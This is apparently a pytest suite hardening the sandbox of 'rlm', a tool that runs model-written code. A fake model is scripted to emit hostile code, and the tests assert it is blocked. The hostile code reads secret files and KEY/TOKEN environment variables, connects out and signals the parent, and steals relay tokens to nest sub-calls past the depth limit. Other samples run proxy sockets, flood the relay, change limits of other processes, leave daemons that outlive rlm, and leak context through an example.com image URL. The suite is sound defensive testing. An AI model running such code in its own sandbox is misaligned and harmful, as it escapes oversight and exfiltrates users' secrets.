        tmp_path: Path, llm: FakeLLM, secret_files: list[Path], listeners: dict[str, object]) -> None:
    """The fresh-machine path: `rlm ask` with the default sandbox (`auto`: bwrap where it works,
    else the confined process level), model code going for keys, files, the network and rlm."""
    from rlm_cli.sandbox.levels import resolve_level

    level = resolve_level("auto")[0]
    for name in ("files", "network", "signals"):
        _unless_confined(level, name)
    (tmp_path / "repo" / "notes.txt").write_text("alpha beta gamma\n")
    paths = [str(p) for p in secret_files]
    attack = (f"import os, signal, socket\nout = []\nfor p in {paths!r}:\n    try:\n        out.append(open(p).read())\n"
              "    except OSError as e:\n        out.append(type(e).__name__)\n"
              "for fam in (socket.AF_INET, socket.AF_INET6):\n    try:\n"
              f"        s = socket.socket(fam)\n        s.connect(('127.0.0.1' if fam == socket.AF_INET else '::1', "
              f"{listeners['tcp_port']}))\n        out.append('CONNECTED')\n"
              "    except OSError as e:\n        out.append(type(e).__name__)\n"
              "try:\n    os.kill(os.getppid(), signal.SIGTERM)\n    out.append('SIGNALLED')\n"
              "except OSError as e:\n    out.append(type(e).__name__)\n"
              "out.append(str(sorted(k for k in os.environ if 'KEY' in k or 'TOKEN' in k)))\n"
              "FINAL(' | '.join(out))")
    llm.script("root", repl(attack))
    res = run_rlm("ask", str(tmp_path / "repo"), "What is it?", *model_flags(llm), "--mode", "rlm", "-v",
                  env={"RLM_SANDBOX": "auto"})
    assert res.code == 0, res.stderr
    assert res.stderr.startswith(f"sandbox: {level} ")
    assert SECRET not in res.stdout and "CONNECTED" not in res.stdout and "SIGNALLED" not in res.stdout, res.stdout
    assert res.stdout.strip().endswith("| []"), res.stdout
    assert res.stdout.count("PermissionError") + res.stdout.count("FileNotFoundError") >= len(paths) + 2
    time.sleep(0.3)
    assert listeners["tcp"] == []


def test_rlm_ask_survives_rebinding_a_200_mb_print_and_a_segfault(tmp_path: Path, llm: FakeLLM) -> None:
    (tmp_path / "notes.txt").write_text("alpha beta gamma\n")
    llm.script("root",
               repl("FINAL = None\nllm_query = lambda *a, **k: 'hijacked'\ndel context\nprint('x' * 200_000_000)"),
               repl("import ctypes\nctypes.string_at(0)"),
               repl("FINAL(llm_query('say hi') + ' / ' + str(len(context)))"))
    llm.default("sub", "hi from sub")
    res = run_rlm("ask", str(tmp_path / "notes.txt"), "What is it?", *model_flags(llm), "--mode", "rlm")
    assert res.code == 0, res.stderr
    assert res.stdout.startswith("hi from sub / ")
    roots = llm.chat_requests("root")
    assert "200,000,001" in last_user(roots[1])  # the model was told how much was printed
    assert "REPL state was lost" in last_user(roots[2]) and "SIGSEGV" in last_user(roots[2])
    assert all(SECRET not in json.dumps(req) for req in llm.requests)


@pytest.mark.parametrize(("sig", "code", "word"), [(signal.SIGINT, 130, b"interrupted"),
                                                   (signal.SIGTERM, 143, b"terminated")])
@pytest.mark.parametrize("level", all_levels())
def test_ctrl_c_leaves_no_worker_socket_scratch_or_bundle(level: str, sig: int, code: int, word: bytes,
                                                          tmp_path: Path, run_tmp: Path, llm: FakeLLM) -> None:
    _skip_process_unless_root(level)
    (tmp_path / "corpus").mkdir()
    (tmp_path / "corpus" / "a.txt").write_text("some text\n")
    tmp = run_tmp
    llm.script("root", repl("import time\nprint('sleeping')\ntime.sleep(120)"))
    # A model host of this command only: a shared one outlives the command by design (see
    # tests/test_shared_host.py); here every process below rlm must be gone.
    env = dict(os.environ, TMPDIR=str(tmp), RLM_HOST_IDLE="0")
    # As from a terminal: a suite started in the background of a non-interactive shell inherits
    # SIGINT ignored, and rlm (like every Unix tool) keeps ignoring it then.
    proc = subprocess.Popen([*rlm_argv(), "ask", str(tmp_path / "corpus"), "q?",
                             *model_flags(llm), "--mode", "rlm", "--sandbox", level, "--no-cache"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env,
                            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    try:
        def worker_running() -> bool:
            if not llm.requests:
                return False
            for pid in descendants(proc.pid):
                try:
                    if b"rlm_cli.sandbox.worker" in Path(f"/proc/{pid}/cmdline").read_bytes():
                        return True
                except OSError:
                    continue
            return False

        assert wait_until(worker_running, 60), "the worker never started"
        time.sleep(0.5)  # the cell is now sleeping inside the worker
        below = descendants(proc.pid)
        assert below and any(p.name.startswith("rlm-lm-") for p in tmp.iterdir())
        assert any(p.name.startswith("rlm-scratch-") for p in tmp.iterdir())
        proc.send_signal(sig)
        out, err = proc.communicate(timeout=90)  # generous: CI machines are shared and slow
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == code, err
    assert word in err and b"Traceback" not in err
    assert wait_until(lambda: not any(Path(f"/proc/{p}").exists() and
                                      Path(f"/proc/{p}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
                                      for p in below), 5), "a worker process survived"
    assert sorted(p.name for p in tmp.iterdir()) == []  # no rlm-lm-*, rlm-scratch-*, rlm-corpus-*


# -- the depth limit against stolen relay tokens (issue #15) -------------------------------------

#: Code that finds the worker's relay token and socket path by walking what the REPL can reach from
#: ``llm_query`` (bound methods, closures, instance dicts): the attack does not rely on any one name.
_DIG = '''
import json, re, socket, struct, types
def dig(obj, want, seen=None, level=0):
    seen = set() if seen is None else seen
    if id(obj) in seen or level > 8:
        return None
    seen.add(id(obj))
    if isinstance(obj, str):
        return obj if want(obj) else None
    kids = []
    if isinstance(obj, types.MethodType):
        kids += [obj.__self__, obj.__func__]
    if isinstance(obj, types.FunctionType):
        for cell in obj.__closure__ or ():
            try:
                kids.append(cell.cell_contents)
            except ValueError:
                pass
    if isinstance(obj, dict):
        kids += list(obj.values())
    elif isinstance(obj, (list, tuple)):
        kids += list(obj)
    elif hasattr(obj, '__dict__') and not isinstance(obj, (type, types.ModuleType)):
        kids += list(vars(obj).values())
    for kid in kids:
        found = dig(kid, want, seen, level + 1)
        if found:
            return found
    return None
def relay(path, msg):
    hello = json.dumps({'token': msg.get('token'), 'type': msg.get('type')}).encode()
    body = json.dumps({k: v for k, v in msg.items() if k not in ('token', 'type')}).encode()
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(200)
    s.connect(path)
    try:
        s.sendall(struct.pack('>I', len(hello)) + hello + struct.pack('>I', len(body)) + body)
    except BrokenPipeError:  # closed unread
        return 'NO ANSWER'
    data = b''
    while True:
        try:
            chunk = s.recv(65536)
        except (ConnectionResetError, socket.timeout):
            chunk = b''
        if not chunk:
            break
        data += chunk
    s.close()
    if not data:
        return 'NO ANSWER'
    reply = json.loads(data[4:])
    return reply['text'] if reply.get('ok') else 'Error: ' + reply.get('error', '')
'''
_ROOT_ATTACKS = _DIG + '''
import os, threading
# 1. A proxy: a thread of this (the parent's) worker serves an abstract Unix socket and calls
#    rlm_query for whoever connects, from the parent's own process.
name = '\\0rlm-proxy-' + os.urandom(6).hex()
server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
server.bind(name)
server.listen(8)
def answer(conn):
    prompt = conn.recv(65536).decode()
    reply = rlm_query(prompt)
    conn.sendall(reply.encode() or b'EMPTY')
    conn.close()
def serve():
    while True:
        threading.Thread(target=answer, args=(server.accept()[0],), daemon=True).start()
threading.Thread(target=serve, daemon=True).start()
# 2. The relay token and socket, dug out of what llm_query reaches.
tok = dig(llm_query, lambda s: re.fullmatch('[0-9a-f]{32}', s) is not None)
path = dig(llm_query, lambda s: s.endswith('lm.sock'))
print('own token works:', relay(path, {'type': 'completion', 'prompt': 'hi', 'token': tok}))
print(rlm_query('ATTACK ' + json.dumps({'token': tok, 'path': path, 'proxy': name})))
'''
_CHILD_ATTACKS = _DIG + '''
info = json.loads(INFO)
print('forged:', relay(info['path'], {'type': 'rlm_query', 'prompt': 'ATTACK ' + INFO, 'context': None,
                                       'token': info['token']})[:300])
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.settimeout(200)
try:
    s.connect(info['proxy'])
    s.sendall(('ATTACK ' + INFO).encode())
    print('proxied:', s.recv(65536).decode()[:300])
except OSError as exc:
    print('proxy unreachable:', exc)
'''


def _nesting_model(llm: FakeLLM, root_code: str, child_code: Callable[[str], str | None],
                   limit: int = 5) -> list[int]:
    """Script the root model: the root's first turn runs ``root_code``; the first turn of every
    sub-RLM runs ``child_code(question)`` (the attack again, at most ``limit`` times); every
    second turn finishes. Returns the counter of attacking child turns served."""
    served = [0]
    lock = threading.Lock()

    def reply(req: dict[str, Any]) -> str:
        task = task_messages(req)
        lead = prompts.leads_reply("")[:20]
        if any(m["role"] == "assistant" and not str(m["content"]).startswith(lead) for m in task):
            return repl("FINAL('done')")  # a later turn (the leads turn, rlm's own, does not count)
        first = question_message(req)
        if "ATTACK " not in first:
            return repl(root_code)
        with lock:
            served[0] += 1
            if served[0] > limit:
                return repl("print('nesting limit of the test reached')")
        return repl(child_code(first) or "print('no attack')")

    llm.default("root", reply)
    llm.default("sub", "sub answer")
    return served


def _loops(trace: Path) -> list[int]:
    """The depth of every loop that started (its first iteration), in order."""
    events = [json.loads(line) for line in trace.read_text().splitlines()]
    return [e["depth"] for e in events if e["type"] == "iteration" and e["iteration"] == 1]


@pytest.mark.parametrize("level", all_levels())
def test_stolen_tokens_and_proxies_do_not_let_sub_rlms_nest_past_max_depth(level: str, tmp_path: Path,
                                                                           llm: FakeLLM) -> None:
    """The token-relay attack through `rlm ask --max-depth 2`: the root digs out its relay token and
    passes it to its sub-RLM, which asks the relay for an rlm_query *as the root*; and the root
    serves a proxy (another thread of its worker) that calls rlm_query for its child. Only one
    sub-RLM may ever run (depth 1); before the fix every forged or proxied request started another
    one at depth 1 (the test's script stops at 5)."""
    def child(first: str) -> str | None:
        m = re.search(r"ATTACK (\{[^}]*\})", first)
        return _CHILD_ATTACKS.replace("INFO", repr(m.group(1))) if m else None

    served = _nesting_model(llm, _ROOT_ATTACKS, child)
    (tmp_path / "a.txt").write_text("alpha\n")
    trace = tmp_path / "run.jsonl"
    res = run_rlm("ask", str(tmp_path / "a.txt"), "q?", *model_flags(llm), "--mode", "rlm", "--sandbox", level,
                  "--max-depth", "2", "--max-iterations", "3", "--timeout", "200", "--no-llm-cache",
                  "--trace", str(trace))
    assert res.code == 0, res.stderr
    events = [json.loads(line) for line in trace.read_text().splitlines()]
    shown = "\n".join(str(e.get("output")) for e in events if e["type"] == "output")
    assert "own token works: sub answer" in shown  # the root really held its token: the attack is real
    assert served[0] == 1, shown  # the one legitimate sub-RLM, and no nested ones
    assert _loops(trace) == [0, 1], shown
    assert "forged: NO ANSWER" in shown, shown  # a token is not served outside its own worker
    scoped = any(p.name == "abstract_unix_sockets" and p.present for p in protections(level))
    if level == "bwrap" or scoped:  # own network namespace / Landlock scope: the parent's socket is out of reach
        assert "proxy unreachable" in shown, shown
    else:  # reached, but the parent is served nothing while its sub-RLM runs
        assert "proxied: Error: " in shown and "waiting for its rlm_query" in shown, shown


def test_a_worker_waiting_for_its_sub_rlm_is_served_nothing_else(llm: FakeLLM) -> None:
    """The relay's waiting rule, without a sandbox in the way: while a worker's rlm_query runs a
    sub-RLM, any other request with its token (another thread, or a proxy for a child) is refused;
    once the sub-RLM returns, the worker is served again."""
    llm.default("sub", "plain sub answer")
    settings = Settings(model="openai/root", sub_model="openai/sub", api_base=llm.url, max_depth=2)
    settings.llm_cache = False
    started, release = threading.Event(), threading.Event()

    def on_rlm_query(prompt: str, context: str | None, depth: int) -> str:
        started.set()
        release.wait(20)
        return "child answer"

    def ask(request: dict[str, Any]) -> dict[str, Any]:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(20)
            s.connect(handler.socket_path)
            protocol.send_message(s, {"token": request["token"], "type": request["type"]})  # the hello
            protocol.send_message(s, {k: v for k, v in request.items() if k not in ("token", "type")})
            return protocol.recv_message(s)

    with LMHandler(ModelClient(settings), on_rlm_query=on_rlm_query) as handler:
        token = handler.register(0, owner=os.getpid)  # this test process plays the worker
        replies: list[dict[str, Any]] = []
        t = threading.Thread(target=lambda: replies.append(ask({"type": "rlm_query", "prompt": "p", "token": token})))
        t.start()
        assert started.wait(20)
        refused = ask({"type": "completion", "prompt": "hi", "token": token})
        assert refused == {"ok": False, "error": LMHandler.WAITING}
        assert ask({"type": "rlm_query", "prompt": "again", "token": token})["ok"] is False
        release.set()
        t.join(20)
        assert replies and replies[0]["ok"] and replies[0]["text"] == "child answer"
        assert ask({"type": "completion", "prompt": "hi", "token": token}) == {"ok": True, "text": "plain sub answer"}


# -- budgets, the relay and the machine against hostile code (issue #26) --------------------------


def _rss_mib(pid: int) -> int:
    with open(f"/proc/{pid}/status") as fh:
        return int(re.search(r"VmRSS:\s+(\d+)", fh.read()).group(1)) // 1024  # type: ignore[union-attr]


#: Model code: 64 connections to the relay without a token, each announcing a 64 MiB frame; then
#: a real sub-call. Prints how many of its connections the relay closed.
_FLOOD = '''
import socket, struct, time
path = llm_query.__self__.socket_path
held = []
for i in range(64):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(5)
    s.connect(path)
    s.sendall(struct.pack('>I', 64 * 1024 * 1024))
    held.append(s)
time.sleep(1.5)
closed = 0
for s in held:
    try:
        closed += s.recv(1) == b''
    except OSError:
        closed += 1
print('closed', closed, 'of', len(held), '|', llm_query('still served?'))
'''


def test_a_relay_flood_without_a_token_allocates_nothing(tmp_path: Path, run_tmp: Path, llm: FakeLLM) -> None:
    """Before: each connection announcing 64 MiB made rlm allocate it and hold a thread (16 took rlm
    from 121 MB to 1.1 GB). Now nothing is read before the caller is known: from the model code
    (no hello) and from another local process (not a worker) alike; the socket is 0600 in a 0700
    folder (0660/0710 with the worker's own group when it runs as nobody). The relay is the same at
    every level: this runs at the default one (CI runs this file with and without bubblewrap)."""
    from rlm_cli.sandbox.levels import resolve_level

    level = resolve_level("auto")[0]
    (tmp_path / "a.txt").write_text("alpha\n")
    tmp = run_tmp
    llm.script("root", repl(_FLOOD), repl("FINAL('done')"))
    llm.default("sub", "yes")
    proc = subprocess.Popen([*rlm_argv(), "ask", str(tmp_path / "a.txt"), "q?", *model_flags(llm),
                             "--mode", "rlm", "--sandbox", level, "--no-llm-cache"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=dict(os.environ, TMPDIR=str(tmp)))
    try:
        assert wait_until(lambda: bool(llm.requests) and any(tmp.glob("rlm-lm-*/lm.sock")), 60)
        sock = next(tmp.glob("rlm-lm-*/lm.sock"))
        folder_mode, sock_mode = sock.parent.stat().st_mode & 0o777, sock.stat().st_mode & 0o777
        before = _rss_mib(proc.pid)
        outside = []
        for _ in range(64):  # another process of this user (root here: no folder mode stops it)
            s = socket.socket(socket.AF_UNIX)
            s.connect(str(sock))
            try:
                s.sendall(struct.pack(">I", 64 * 1024 * 1024))
            except (BrokenPipeError, ConnectionResetError):  # the relay closed it first: also right
                pass
            outside.append(s)
        peak = before
        while proc.poll() is None and not llm.chat_requests("sub"):
            peak = max(peak, _rss_mib(proc.pid))
            time.sleep(0.1)
        for s in outside:
            s.settimeout(5)
            try:
                assert s.recv(1) == b""  # closed unread
            except ConnectionResetError:  # closed with our frame header unread
                pass
            s.close()
        out, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 0, err
    assert peak - before < 64, (before, peak)  # not one 64 MiB frame was allocated
    shown = last_user(llm.chat_requests("root")[1])
    assert "closed 64 of 64 | yes" in shown, shown
    dropped = plan_drop(level)[0]
    assert (folder_mode, sock_mode) == ((0o710, 0o660) if dropped and dropped.uid != 0 else (0o700, 0o600))


@pytest.mark.parametrize("level", all_levels())
def test_code_cannot_change_other_processes_limits_priority_or_cpus_nor_make_memfds(level: str, tmp_path: Path,
                                                                                  llm: FakeLLM) -> None:
    """Before: prlimit(pid, RLIMIT_CPU, (1, 1)) killed rlm (rc 137) or another run's worker;
    setpriority, sched_setaffinity and ioprio_set reached other processes; a memfd held 2 GiB
    under a 1 GiB --memory-limit. Now all refused, while the process's own settings still work."""
    victim = subprocess.Popen(["sleep", "60"])  # a bystander (as root: another run's worker would be nobody)
    try:
        (tmp_path / "a.txt").write_text("alpha\n")
        code = (f"import ctypes, os, resource\nlibc = ctypes.CDLL(None, use_errno=True)\nout = []\n"
                "def err(rc):\n    return os.strerror(ctypes.get_errno()) if rc == -1 else 'ALLOWED'\n"
                f"for pid in (os.getppid(), {victim.pid}):\n"
                "    try:\n        resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))\n        out.append('prlimit ALLOWED')\n"
                "    except OSError as e:\n        out.append('prlimit ' + e.strerror)\n"
                f"out.append('setpriority ' + err(libc.setpriority(0, {victim.pid}, 19)))\n"
                "out.append('setpriority user ' + err(libc.setpriority(2, 0, 19)))\n"
                f"try:\n    os.sched_setaffinity({victim.pid}, {{0}})\n    out.append('affinity ALLOWED')\n"
                "except OSError as e:\n    out.append('affinity ' + e.strerror)\n"
                f"out.append('ioprio ' + err(libc.syscall(251 if os.uname().machine == 'x86_64' else 30, 1, "
                f"{victim.pid}, (3 << 13) | 7)))\n"
                "try:\n    os.memfd_create('x')\n    out.append('memfd ALLOWED')\nexcept OSError as e:\n"
                "    out.append('memfd ' + e.strerror)\n"
                "resource.setrlimit(resource.RLIMIT_CORE, (0, 0))\nout.append(f'own nice {os.nice(1)}')\n"
                "os.sched_setaffinity(0, os.sched_getaffinity(0))\n"
                "cb = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(lambda x: x + 1)\nout.append(f'callback {cb(41)}')\n"
                "print(' | '.join(out))")
        llm.script("root", repl(code), repl("FINAL('done')"))
        res = run_rlm("ask", str(tmp_path / "a.txt"), "q?", *model_flags(llm), "--mode", "rlm", "--sandbox", level,
                      "--no-llm-cache")
        assert res.code == 0, res.stderr  # rlm itself was not given a 1 s CPU limit
        shown = last_user(llm.chat_requests("root")[1])
        refused = "Operation not permitted"
        nice = min(os.nice(0) + 1, 19)  # the worker's own nice works: one more than it inherited (tests may run niced)
        assert (f"prlimit {refused} | prlimit {refused} | setpriority {refused} | setpriority user {refused} | "
                f"affinity {refused} | ioprio {refused} | memfd {refused} | own nice {nice} | callback 42") in shown, shown
        assert "Max cpu time              unlimited" in Path(f"/proc/{victim.pid}/limits").read_text()
        assert victim.poll() is None
    finally:
        victim.kill()
        victim.wait()


def test_sub_call_messages_carry_text_only(tmp_path: Path, llm: FakeLLM) -> None:
    """litellm fetches the URL of an image_url or file part from rlm's own process, outside the
    sandbox: such parts, other roles and other keys are refused with a clear error."""
    (tmp_path / "a.txt").write_text("alpha\n")
    code = ("u = 'https://example.com/leak?d=' + context[:20]\nout = []\n"
            "for msgs in ([{'role': 'user', 'content': [{'type': 'image_url', 'image_url': {'url': u}}]}],\n"
            "             [{'role': 'user', 'content': [{'type': 'file', 'file': {'file_data': u}}]}],\n"
            "             [{'role': 'tool', 'content': 'x'}], [{'role': 'user', 'content': 'x', 'tool_calls': []}],\n"
            "             [{'role': 'system', 'content': 'be brief'}, {'role': 'user', 'content': [{'type': 'text', "
            "'text': 'text parts'}, {'type': 'text', 'text': 'are fine'}]}]):\n"
            "    out.append(llm_query(msgs))\nprint('\\n'.join(out))")
    llm.script("root", repl(code), repl("FINAL('done')"))
    llm.default("sub", lambda req: "sub saw: " + json.dumps(req["messages"]))
    res = run_rlm("ask", str(tmp_path / "a.txt"), "q?", *model_flags(llm), "--mode", "rlm", "--no-llm-cache")
    assert res.code == 0, res.stderr
    lines = last_user(llm.chat_requests("root")[1]).splitlines()
    assert any("Error: sub-call message 1 has a part of type 'image_url'; sub-calls carry text only" in ln
               for ln in lines), lines
    assert any("part of type 'file'" in ln for ln in lines)
    assert any("has role 'tool'" in ln for ln in lines) and any("'tool_calls'" in ln for ln in lines)
    served = llm.chat_requests("sub")
    assert len(served) == 1 and served[0]["messages"] == [
        {"role": "system", "content": "be brief"}, {"role": "user", "content": "text parts\nare fine"}]
    assert "example.com" not in json.dumps(served)


@pytest.mark.parametrize("level", all_levels())
def test_scratch_has_a_total_quota(level: str) -> None:
    """Before: 3 GiB of scratch files in 8 s at the process level (only the per-file cap held). Now a
    tmpfs (bwrap, or a root rlm that may mount one) or a watched folder bounds the total."""
    quota = 8 * 1024**2
    with sandbox(level, limits=Limits(file_bytes=quota)) as sb:
        r = sb.execute("n = 0\ntry:\n    for i in range(64):\n        with open(f'f{i}.bin', 'wb') as fh:\n"
                       "            fh.write(b'x' * 1_000_000)\n        n += 1\n"
                       "except OSError as e:\n    print('stopped:', e.strerror)\nimport time\ntime.sleep(0.5)\n"
                       "print('wrote', n, 'MB')")
        if sb.scratch_on_disk:  # watched: the worker is killed once the folder is over the quota
            assert r.lost is not None and "scratch folder grew past its limit of 8 MiB" in r.lost, r
        else:
            assert r.output == "stopped: No space left on device\nwrote 8 MB\n", r.output
            assert sb.scratch is not None and list(sb.scratch.iterdir()) == []  # nothing on the host disk
        assert sb.execute("print('next cell')").output == "next cell\n"


_DAEMON = ("import os, time\nif os.fork() == 0:\n    try:\n        os.setsid()\n    except OSError:\n"
           "        os.setpgid(0, 0)\n    if os.fork() == 0:\n" + "\n".join("        " + line for line in
                                                                         set_comm("MARKER").splitlines()) +
           "\n        time.sleep(600)\n    os._exit(0)\ntime.sleep(0.5)\nprint('spawned')\ntime.sleep(120)")


@pytest.mark.parametrize("level", all_levels())
def test_what_a_sigkilled_rlm_left_is_killed_and_swept(level: str, tmp_path: Path, run_tmp: Path, llm: FakeLLM) -> None:
    """Before: a setsid + double-fork daemon outlived a SIGKILLed rlm for good, with its scratch and
    relay folders. Now it dies at once (bwrap's PID namespace) or when the next rlm starts a worker
    (the process level), and that rlm removes the folders."""
    marker = f"rlmorph{os.getpid() % 10000}"
    (tmp_path / "a.txt").write_text("alpha\n")
    tmp = run_tmp
    llm.script("root", repl(_DAEMON.replace("MARKER", marker)))
    llm.default("root", repl("FINAL('second run')"))
    env = dict(os.environ, TMPDIR=str(tmp))  # the shared model host outlives rlm by design: not in TMPDIR
    argv = [*rlm_argv(), "ask", str(tmp_path / "a.txt"), "q?", *model_flags(llm), "--mode", "rlm",
            "--sandbox", level, "--no-llm-cache"]
    proc = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=env)
    try:
        assert wait_until(lambda: bool(procs_named(marker)), 60), "the daemon never started"
        assert {p.name.split("-")[1] for p in tmp.glob("rlm-*-*")} >= {"lm", "scratch"}
    finally:
        proc.kill()
        proc.wait()
    if level == "bwrap":
        assert wait_until(lambda: procs_named(marker) == [], 5), "the daemon outlived rlm"
    else:
        time.sleep(0.5)
        assert procs_named(marker), "the process level's daemon is expected to live until the next rlm"
    res = run_rlm("ask", str(tmp_path / "a.txt"), "q?", *model_flags(llm), "--mode", "rlm", "--sandbox", level,
                  "--no-llm-cache", env={"TMPDIR": str(tmp)})
    assert res.code == 0 and res.stdout.strip() == "second run", res.stderr
    assert wait_until(lambda: procs_named(marker) == [], 5), procs_named(marker)
    if level == "process":
        assert "killed 1 process left running by an earlier rlm that was killed" in res.stderr, res.stderr
    assert sorted(p.name for p in tmp.iterdir()) == []
